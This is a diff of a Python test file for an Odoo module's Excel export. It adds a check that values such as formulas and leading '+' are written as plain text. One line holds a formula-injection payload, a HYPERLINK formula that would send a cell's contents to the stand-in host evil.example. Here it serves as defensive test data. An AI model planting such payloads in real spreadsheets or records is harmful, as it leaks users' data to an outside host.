@@ -6,6 +6,7 @@ from freezegun import freeze_time
 
 from odoo.exceptions import UserError, ValidationError
 from odoo.tests import tagged
+from odoo.tools import file_path
 
 from .common_retention import KamRetentionCommon
 
@@ -69,6 +70,23 @@ class TestManagementWorkbook(KamRetentionCommon):
         self.assertEqual(len(kpis._charts), 1)
         groups = book["Groups"]
         self.assertIn(self.group_a.name, self._column(groups))
+
+    def test_text_stays_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+        self.group_b.write({'name': formula, 'city': "+1-2"})
+        book = self._workbook(self.user_kam_manager)
+        row = next(r for r in book["Accounts"].iter_rows(min_row=2) if r[0].value == formula)
+        self.assertEqual((row[0].data_type, row[12].data_type, row[12].value), ('s', 's', "+1-2"))
+        cells = [r[2] for r in book["Contracts"].iter_rows(min_row=2) if r[2].value == formula]
+        self.assertEqual([cell.data_type for cell in cells], ['s'])
+        formulas = [cell.coordinate for sheet in book for r in sheet.iter_rows() for cell in r
+                    if cell.data_type == 'f']
+        self.assertFalse(formulas)
+        # the member import template the product ships holds text and dates only
+        template = openpyxl.load_workbook(file_path(
+            'key_account_management/static/xls/kam_member_import_template.xlsx'))
+        self.assertEqual({cell.data_type for r in template.active.iter_rows() for cell in r
+                          if cell.value is not None}, {'s', 'd'})
 
     def test_users_workbook_holds_his_accounts_only(self):
         book = self._workbook(self.user_kam)
@@ -157,7 +175,7 @@ class TestManagementWorkbook(KamRetentionCommon):
             self.env['kam.export.wizard']._cron_kam_export_workbooks()
         self.assertEqual(len(self._notifications(self.user_kam_manager)), 1)
         self.assertEqual(self.env['ir.attachment'].search_count([
-            ('res_model', '=', 'res.users'), ('res_id', '=', self.user_kam_manager.id)]), 1)
+            ('res_model', '=', 'kam.export.wizard'), ('res_id', '=', wizard.id)]), 1)
 
     def test_progress_goes_forward_to_the_end(self):
         wizard = self.env['kam.export.wizard'].with_user(self.user_kam_manager).create({
